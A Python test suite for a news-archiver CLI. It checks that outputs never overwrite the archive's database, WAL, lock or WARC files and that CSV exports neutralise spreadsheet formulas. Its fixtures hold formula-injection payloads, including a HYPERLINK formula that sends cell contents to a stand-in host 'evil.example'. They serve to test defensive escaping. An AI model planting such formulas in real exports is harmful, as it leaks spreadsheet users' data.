"""What the commands write: never over the archive, only where they can, and CSV cells that a
spreadsheet shows rather than runs."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import sqlite3
import stat
from pathlib import Path

import pytest
from click.testing import Result
from hypothesis import given
from hypothesis import strategies as st

from archiver.export import spreadsheet_safe, spreadsheet_safe_sql
from archiver.records import Brief, Citation, News
from archiver.store import Archive
from tests.clirunner import run
from tests.factories import make_archive


def one_line_error(result: Result) -> str:
    assert result.exit_code == 2, (result.stdout, result.stderr)
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("archiver: error: ")
    return lines[0]


def files(folder: Path) -> dict[str, str]:
    """Every file below ``folder`` and the sha256 of its bytes."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """An archive as a crawl leaves it: its lock beside it, a WARC file in warc/, and (as
    while a crawl runs) a write-ahead log."""
    path = make_archive(tmp_path / "data" / "archive.db")
    (path.parent / "archive.db.lock").write_text("4242\n")
    (path.parent / "warc").mkdir()
    (path.parent / "warc" / "edu-news-archiver-20261201-00001.warc.gz").write_bytes(b"\x1f\x8b")
    for suffix in ("-wal", "-shm"):
        path.with_name(path.name + suffix).write_bytes(b"kept as it is")
    return path


ARCHIVE_FILES = [
    "archive.db", "archive.db-wal", "archive.db-shm", "archive.db-journal", "archive.db.lock",
    "warc/edu-news-archiver-20261201-00001.warc.gz", "warc/new.csv", "../data/archive.db",
]  # fmt: skip
WRITERS = [
    ["export", "--format", "csv", "-o"],
    ["export", "--format", "jsonl", "--bom", "-o"],
    ["citations", "-o"],
]


@pytest.mark.parametrize("name", ARCHIVE_FILES)
@pytest.mark.parametrize("writer", WRITERS, ids=lambda w: " ".join(w))
def test_an_output_that_is_a_file_of_the_archive_is_refused(
    db: Path, writer: list[str], name: str
) -> None:
    before = files(db.parent)
    target = db.parent / name
    line = one_line_error(run(writer[0], "--db", str(db), *writer[1:], str(target)))
    assert f"{target} is " in line and "of the archive" in line or "is the archive" in line
    assert line.endswith(f"{db}: nothing written")
    assert files(db.parent) == before


@pytest.mark.parametrize("link_to", ["archive.db", "archive.db-wal"])
def test_a_link_to_a_file_of_the_archive_is_refused(
    db: Path, tmp_path: Path, link_to: str
) -> None:
    before = files(db.parent)
    link = tmp_path / "news.csv"
    link.symlink_to(db.parent / link_to)
    hard = tmp_path / "hard.csv"
    os.link(db.parent / link_to, hard)
    for target in (link, hard):
        one_line_error(run("export", "--db", str(db), "--format", "csv", "-o", str(target)))
    plot = tmp_path / "coverage.png"
    plot.symlink_to(db.parent / link_to)
    one_line_error(run("stats", "--db", str(db), "--plot", str(plot)))
    assert files(db.parent) == before


def test_every_other_writing_option_refuses_the_archive(db: Path) -> None:
    before = files(db.parent)
    for args in (
        ["stats", "--plot", str(db.parent / "warc" / "coverage.png")],
        ["crawl", "--log-file", str(db)],
        ["crawl", "--log-file", str(db.parent / "archive.db.lock")],
        ["crawl", "--set", f"LOG_FILE={db.with_name('archive.db-wal')}"],
        ["sites", "add", "https://news.example.edu.cn/list.htm", "--sites-dir",
         str(db.parent / "warc")],
    ):  # fmt: skip
        at = 2 if args[0] == "sites" else 1  # --db after the subcommand
        line = one_line_error(run(*args[:at], "--db", str(db), *args[at:]))
        assert "of the archive" in line or "is the archive" in line, line
    manifest = db.parent / "x.csv"
    db_named_like_a_manifest = db.with_name("x.csv.manifest.json")
    db_named_like_a_manifest.write_bytes(db.read_bytes())
    line = one_line_error(run("export", "--db", str(db_named_like_a_manifest), "--format", "csv",
                              "-o", str(manifest), "--manifest"))  # fmt: skip
    assert line.startswith("archiver: error: --manifest ")
    assert not manifest.exists()
    assert {k: v for k, v in files(db.parent).items() if k != "x.csv.manifest.json"} == before


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["export", "--format", "csv", "-o", "/proc/news.csv"], "cannot write /proc/news.csv"),
        (["citations", "-o", "/proc/x.csv"], "cannot write /proc/x.csv"),
        (["export", "--format", "csv", "-o", "{tmp}/no/folder.csv"], "no folder {tmp}/no"),
        (["export", "--format", "csv", "-o", "{tmp}"], "is a directory"),
        (["export", "--format", "csv", "-o", ""], "-o . is a folder, not a file"),
        (["export", "--format", "csv", "-o", "a\x00b.csv"], "holds a NUL character"),
        (["stats", "--plot", "/proc/x.png"], "cannot write /proc/x.png"),
        (["crawl", "--log-file", "/proc/crawl.log"], "cannot write /proc/crawl.log"),
        (["crawl", "--log-file", "{tmp}"], "is a directory"),
    ],
)
def test_an_output_that_cannot_be_written_is_one_line(
    db: Path, tmp_path: Path, args: list[str], fragment: str
) -> None:
    before = files(tmp_path)
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    line = one_line_error(run(args[0], "--db", str(db), *args[1:]))
    assert fragment.replace("{tmp}", str(tmp_path)) in line
    assert files(tmp_path) == before


def test_a_device_is_written_in_place_and_a_link_keeps_pointing(db: Path, tmp_path: Path) -> None:
    result = run("export", "--db", str(db), "--format", "jsonl", "-o", os.devnull)
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)  # never replaced by a file
    real = tmp_path / "exports" / "news.csv"
    real.parent.mkdir()
    real.write_text("old\n")
    link = tmp_path / "latest.csv"
    link.symlink_to(real)
    assert run("export", "--db", str(db), "--format", "csv", "-o", str(link)).exit_code == 0
    assert link.is_symlink() and real.read_text().startswith("url,kind,")


def test_a_full_disk_is_one_line_and_exit_1(db: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    result = run("export", "--db", str(db), "--format", "csv", "-o", "/dev/full")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "archiver: error: cannot write /dev/full: No space left on device"
    ]


# -- CSV cells that a spreadsheet would run -------------------------------------------------

FORMULAS = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "'quoted": "''quoted",
    "标题 =1+1": "标题 =1+1",
    "": "",
}  # fmt: skip


@pytest.mark.parametrize(("value", "cell"), FORMULAS.items())
def test_spreadsheet_safe(value: str, cell: str) -> None:
    assert spreadsheet_safe(value) == cell
    if value.startswith(tuple("=+-@\t\r'")):  # undone by dropping the apostrophe
        assert cell[1:] == value
    assert spreadsheet_safe(-2) == -2 and spreadsheet_safe(None) is None


@given(st.one_of(st.text(max_size=8), st.integers(-(2**63), 2**63 - 1), st.none()))
def test_the_sql_of_the_fast_path_does_what_python_does(value: object) -> None:
    with sqlite3.connect(":memory:") as conn:
        (in_sql,) = conn.execute(
            f"SELECT {spreadsheet_safe_sql('v')} FROM (SELECT ? AS v)", [value]
        ).fetchone()
    assert in_sql == spreadsheet_safe(value)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """An archive whose pages hold formulas where a title, a department, a section and a
    source would be."""
    path = tmp_path / "hostile.db"
    brief = "http://jw.beijing.gov.cn/x/t20120301_1.html"
    with Archive.open(path, create=True) as archive:
        archive.save_document(News(
            url="https://xww.bucea.edu.cn/zhxw/1.htm", site="xww.bucea.edu.cn",
            title='=HYPERLINK("http://evil.example/","点此")', published="2012-03-01",
            body="-1+2\n正文", department="@SUM(A1:A9)", sections=["+综合新闻"],
            cites=[Citation(brief, "link")],
        ))
        archive.save_document(Brief(
            url=brief, site="jw.beijing.gov.cn", title="\t=1+1", published="2012-03-01",
            body="本期要目。", source="-来源", status="live",
        ))  # fmt: skip
    return path


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_export_csv_neutralises_formulas_and_json_keeps_them(
    hostile: Path, tmp_path: Path
) -> None:
    out = tmp_path / "news.csv"
    result = run("export", "--db", str(hostile), "--format", "csv", "--bom", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    rows = csv_rows(out.read_text(encoding="utf-8"))
    news, brief = rows
    assert news["title"] == "'=HYPERLINK(\"http://evil.example/\",\"点此\")"
    assert news["department"] == "'@SUM(A1:A9)"
    assert news["body"] == "'-1+2\n正文"
    assert json.loads(news["sections"]) == ["+综合新闻"]  # JSON text: starts with [
    assert (brief["title"], brief["source"]) == ("'\t=1+1", "'-来源")
    records = [json.loads(line) for line in run(
        "export", "--db", str(hostile), "--format", "jsonl").stdout.splitlines()]  # fmt: skip
    assert records[0]["title"] == '=HYPERLINK("http://evil.example/","点此")'
    assert records[1]["source"] == "-来源"


def test_every_csv_the_archiver_writes_is_neutralised(hostile: Path) -> None:
    citations = csv_rows(run("citations", "--db", str(hostile)).stdout)
    assert citations[0]["news_title"].startswith("'=HYPERLINK")
    assert citations[0]["brief_title"] == "'\t=1+1"
    (hit,) = csv_rows(run("search", "正文", "--db", str(hostile), "--format", "csv").stdout)
    assert hit["title"].startswith("'=HYPERLINK") and hit["department"] == "'@SUM(A1:A9)"
    risky = ("=", "+", "-", "@", "\t", "\r")
    writers = (["export", "--format", "csv"], ["citations"], ["search", "正文", "--format", "csv"])
    for args in writers:
        text = run(args[0], "--db", str(hostile), *args[1:]).stdout
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert cells and not [cell for cell in cells if cell[:1] in risky]


def test_export_help_says_what_is_done_to_a_cell_and_how_to_undo_it() -> None:
    text = " ".join(run("export", "--help").stdout.split())
    assert "a text cell starting with = + - @, a tab or a carriage return" in text
    assert "drop the first character of every cell that starts with an apostrophe" in text
    assert "--json or --nl, which hold every value as it is" in text
